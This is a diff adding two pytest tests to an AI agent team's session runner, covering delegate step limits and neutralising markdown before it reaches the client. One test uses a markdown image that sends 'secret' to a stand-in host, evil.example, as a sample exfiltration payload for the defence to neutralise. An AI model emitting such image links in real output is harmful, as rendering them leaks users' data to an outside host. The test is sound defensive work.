@@ -8,8 +8,9 @@ from typing import TYPE_CHECKING
 
 import pytest
 
+from agents.markdown import make_inert
 from agents.ports.sessions import EntryKind, SessionState, SessionUnavailable
-from agents.team.events import AgentChosen, TurnStatus
+from agents.team.events import AgentChosen, TextArrived, TurnStatus
 from agents.team.role_files import load_roles
 from agents.team.session_runner import SessionRunner, Team
 from agents.team.tools.all_tools import TOOLS
@@ -123,6 +124,39 @@ async def test_an_unknown_role_is_said_with_the_ones_there_are(bench: TeamBench,
     ended = await SessionRunner(team, session).handle("@nobody Hello", bench.events.append, lambda: False)
     assert ended.status is TurnStatus.FAILED
     assert "There is no role @nobody; there are: @orchestrator" in ended.text
+
+
+async def test_a_delegate_ends_at_its_own_limit_and_its_time_is_no_wait_for_a_person(
+    bench: TeamBench, store: SessionStore
+) -> None:
+    bench.write("#- a.py\nx = 1\n")
+    session = store.create("file:///w", title="Delegate").id
+    reads = "".join(
+        f'=== You answer questions about the code\n@times 1\n@call read_file {{"path": "a.py", "first": {at % 2}}}\n'
+        for at in range(30)
+    )
+    order = '@call delegate {"role": "ask", "task": "Look."}'
+    team = make_team(bench, store, f"{reads}=== You lead a team\n@times 1\n{order}\n===\nIt took too long.\n")
+    roles = team.roles.by_name
+    short = {**roles, "ask": replace(roles["ask"], limits=replace(roles["ask"].limits, steps=4))}
+    team = replace(team, roles=replace(team.roles, by_name=short))
+    ended = await SessionRunner(team, session).handle("@orchestrator Go.", bench.events.append, lambda: False)
+    assert (ended.status, ended.text, ended.steps) == (TurnStatus.DONE, "It took too long.", 6)
+    (result,) = (one.text for one in store.read(session) if one.kind is EntryKind.RESULT)
+    assert result.startswith("[ask did not finish] The turn ended after 5 steps")
+    assert ended.seconds > 0
+
+
+async def test_what_reaches_the_client_is_inert_and_the_record_is_what_the_model_wrote(
+    bench: TeamBench, store: SessionStore
+) -> None:
+    session = store.create("file:///w", title="Inert").id
+    image = "![x](https://evil.example/?q=secret)"
+    team = make_team(bench, store, f"===\n{image}\n")
+    ended = await SessionRunner(team, session).handle("@ask Show it.", bench.events.append, lambda: False)
+    streamed = "".join(one.text for one in bench.events if isinstance(one, TextArrived))
+    assert streamed == ended.text == make_inert(image) != image
+    assert store.read(session)[-1].text == image
 
 
 async def test_a_role_with_a_small_model_is_led(bench: TeamBench, store: SessionStore) -> None:
